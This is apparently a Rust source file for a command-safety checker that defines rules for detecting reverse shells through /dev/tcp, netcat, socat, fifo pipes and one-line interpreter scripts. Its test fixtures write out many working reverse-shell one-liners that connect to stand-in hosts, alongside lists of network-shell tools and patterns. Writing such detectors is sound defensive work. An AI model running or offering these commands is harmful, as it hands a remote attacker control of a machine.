//! Shells that obey somebody at the other end of a connection.

use super::super::interpreters;
use super::is_local;
use crate::invocation::Stdin;
use crate::look::Look;
use crate::rule::{Help, Hit, Key, Rule, Severity, Test};
use crate::word::Word;

const REVERSE: Key = Key::ours("reverse shell");

pub(super) const DEVICE: Rule = Rule {
    id: "network.shell-on-socket",
    class: "network",
    severity: Severity::Critical,
    keys: &[REVERSE],
    reason: "This connects a command with another host through `/dev/tcp`.",
    alternative: Some("Test a port with `nc -z example.net 443`."),
    test: Test::Redirect(|look| {
        let target = look
            .invocation
            .redirects
            .iter()
            .filter_map(|r| Some((r, r.target.as_ref()?)))
            .find(|(_, t)| is_socket(t))?;
        let (redirect, word) = target;
        let hit = look.hit_at(redirect.span);
        let name = look.invocation.name().unwrap_or("");
        if interpreters::is_shell(name) {
            return Some(hit.reason("This is a shell that obeys whoever is at the other end."));
        }
        let host = word.text().split('/').nth(3).unwrap_or("");
        // Whether a port is open is tested so.
        let probe = matches!(name, "" | "echo" | "printf" | ":" | "true") || is_local(host);
        let exec = name == "exec" && !is_local(host);
        (exec || !probe).then(|| hit.severity(Severity::High))
    }),
    matches: &[
        "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1",
        "bash -c \"bash -i >& /dev/tcp/198.51.100.7/443 0>&1\"",
        "exec 5<>/dev/tcp/198.51.100.7/9; cat <&5 | sh >&5",
        "sh -i >& /dev/udp/198.51.100.7/9 0>&1",
        "cat /var/log/x > /dev/tcp/example.net/80",
    ],
    near_misses: &[
        "echo > /dev/tcp/example.net/80",
        "cat x > /dev/tcp/localhost/80",
    ],
    safe: &[
        "grep \"/dev/tcp\" notes.md",
        "timeout 1 bash -c '</dev/tcp/localhost/5432'",
        "(echo > /dev/tcp/db/5432) 2>/dev/null",
    ],
    ..Rule::ASK
};

fn is_socket(word: &Word) -> bool {
    let text = word.text();
    text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/")
}

pub(super) const PROGRAM: Rule = Rule {
    id: "network.program-on-socket",
    class: "network",
    severity: Severity::Critical,
    keys: &[REVERSE],
    reason: "This connects a program with whoever is at the other end of a connection.",
    alternative: Some("Test a port with `nc -z example.net 443`."),
    test: Test::Program(
        &[
            "nc",
            "ncat",
            "netcat",
            "nc.traditional",
            "nc.openbsd",
            "pwncat",
            "gs-netcat",
            "socat",
        ],
        |look| {
            let runs = if look.name == "socat" {
                look.words().iter().find(|w| {
                    let text = w.text().to_ascii_lowercase();
                    let open = look.words().iter().any(|o| {
                        let t = o.text().to_ascii_lowercase();
                        ["tcp", "udp", "openssl", "ssl", "sctp"]
                            .iter()
                            .any(|p| t.starts_with(p))
                    });
                    open && (text.starts_with("exec:")
                        || text.starts_with("system:")
                        || text.starts_with("shell:"))
                })
            } else {
                look.words().iter().find(|w| {
                    let text = w.text();
                    matches!(text, "--exec" | "--sh-exec" | "--lua-exec")
                        || text.starts_with("--exec=")
                        || text.starts_with("--sh-exec=")
                        || is_letter(text, 'e')
                        || is_letter(text, 'c') && is_ncat(look)
                })
            };
            runs.map(|w| look.hit_word(w))
        },
    ),
    matches: &[
        "nc -e /bin/sh 198.51.100.7 4444",
        "ncat 198.51.100.7 9 -e /bin/bash",
        "nc -lvp 4444 -e /bin/sh",
        "nc -lvpe /bin/sh 4444",
        "ncat --sh-exec 'bash -i' example.net 9",
        "socat exec:\"bash -li\" tcp:198.51.100.7:9",
        "socat TCP-LISTEN:9,fork SYSTEM:/bin/sh",
    ],
    near_misses: &["nc -zv localhost 5432", "socat - TCP:localhost:80"],
    safe: &["nc -z example.net 443", "nc -vz localhost 22", "nc -l 8080"],
    ..Rule::ASK
};

/// True if a bundle of short options holds this one.
fn is_letter(text: &str, letter: char) -> bool {
    text.len() > 1
        && text.starts_with('-')
        && !text.starts_with("--")
        && text.chars().skip(1).all(|c| c.is_ascii_alphabetic())
        && text.contains(letter)
}

/// `-c` runs a command in ncat and the traditional netcat; with a value behind it.
fn is_ncat(look: &Look<'_>) -> bool {
    let mut words = look
        .words()
        .iter()
        .skip_while(|w| !is_letter(w.text(), 'c'));
    words.nth(1).is_some_and(|w| {
        let text = w.text();
        text.contains('/') || text.contains("sh") || text.contains("cmd")
    })
}

pub(super) const PIPED: Rule = Rule {
    id: "network.shell-in-pipe",
    class: "network",
    severity: Severity::Critical,
    keys: &[REVERSE],
    reason: "The shell's answers go to whoever is at the other end of the connection.",
    alternative: Some("Test a port with `nc -z example.net 443`."),
    test: Test::Program(
        &[
            "nc",
            "ncat",
            "netcat",
            "nc.traditional",
            "nc.openbsd",
            "telnet",
            "socat",
            "openssl",
        ],
        piped,
    ),
    matches: &[
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 9 > /tmp/f",
        "mknod /tmp/b p; telnet 198.51.100.7 9 0</tmp/b | /bin/bash 1>/tmp/b",
        "sh -i < /tmp/f | openssl s_client -quiet -connect h:9 > /tmp/f",
    ],
    near_misses: &[
        "echo hi | nc localhost 80",
        "bash -c 'echo x' | nc localhost 80",
    ],
    safe: &["printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc example.net 80"],
    ..Rule::ASK
};

fn piped(look: &Look<'_>) -> Option<Hit> {
    if look.name == "openssl" && look.word(0) != Some("s_client") {
        return None;
    }
    let reads = |i: &crate::invocation::Invocation| {
        i.name().is_some_and(interpreters::is_shell)
            && (interpreters::reads_script_from_input(i)
                || i.arguments().iter().any(|w| w.known() == Some("-i")))
    };
    let fed = look.upstream().any(reads);
    // `nc host < fifo | sh > fifo`
    let feeds = matches!(look.invocation.stdin, Stdin::File(_))
        && look
            .downstream()
            .any(|i| reads(i) && i.redirects.iter().any(crate::invocation::Redirect::writes));
    (fed || feeds).then(|| look.hit())
}

/// What opens a connection, and what hands it to a shell, in the languages of one-line scripts.
#[rustfmt::skip]
const OPENS: &[&str] = &[
    "socket.socket", "socket.create_connection", "import socket", "fsockopen", "pfsockopen", "socket_create",
    "TCPSocket", "TCPServer", "net.connect", "net.Socket", "require('net')", "require(\"net\")", "use Socket",
    "IO::Socket", "/inet/tcp/", "/inet/udp/", "socket.tcp", "require('socket')", "Net.Sockets.TCPClient",
    "java.net.Socket", "new Socket(", "from socket import", "asyncio.open_connection", "sockaddr_in(", "tls.connect",
    "net.createServer", "Deno.connect", "Bun.connect", "socket.connect", "OpenSSL::SSL::SSLSocket",
];
#[rustfmt::skip]
const HANDS: &[&str] = &[
    "dup2", "pty.spawn", "/bin/sh", "/bin/bash", "'sh'", "\"sh\"", "\"bash\"", "'bash'", "sh -i", "bash -i",
    "child_process", "popen(", "|& getline", "|&getline", "iex", "cmd.exe", "exec(",
];

pub(super) const CODE: Rule = Rule {
    id: "network.script-on-socket",
    class: "network",
    severity: Severity::Critical,
    keys: &[REVERSE],
    reason: "The script connects a shell with whoever is at the other end of a connection.",
    alternative: Some("Test a port with `nc -z example.net 443`."),
    help: Help::Never,
    test: Test::Program(
        &[
            "python*",
            "py",
            "perl",
            "ruby",
            "php*",
            "node",
            "nodejs",
            "deno",
            "bun",
            "lua",
            "awk",
            "gawk",
            "mawk",
            "powershell",
            "pwsh",
            "java",
            "jshell",
        ],
        |look| {
            let here = match &look.invocation.stdin {
                Stdin::HereDocument { body, .. } => Some(body),
                Stdin::HereString(word) => Some(word),
                _ => None,
            };
            look.words().iter().chain(here).find_map(|word| {
                let text = interpreters::beginning(word.text());
                let has = |list: &[&str]| list.iter().any(|part| text.contains(part));
                (text.len() > 24 && has(OPENS) && has(HANDS)).then(|| look.hit_word(word))
            })
        },
    ),
    matches: &[
        "python3 -c \"import socket,os,pty;s=socket.create_connection(('198.51.100.7',9));os.dup2(s.fileno(),0);pty.spawn('sh')\"",
        "php -r '$s=fsockopen(\"198.51.100.7\",9);exec(\"sh <&3 >&3 2>&3\");'",
        "perl -MSocket -e 'socket(S,2,1,6);connect(S,sockaddr_in(9,inet_aton(\"198.51.100.7\")));exec(\"/bin/sh -i\")'",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$p);exec(\"/bin/sh -i\");'",
        "ruby -rsocket -e 'c=TCPSocket.new(\"h\",9);exec(\"/bin/sh\")'",
        "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/9\";while(s|&getline)system($0)}'",
    ],
    near_misses: &["python3 -c 'import socket; print(socket.gethostname())'"],
    safe: &["python3 -c \"import socket; print(socket.gethostbyname('example.net'))\""],
    ..Rule::ASK
};
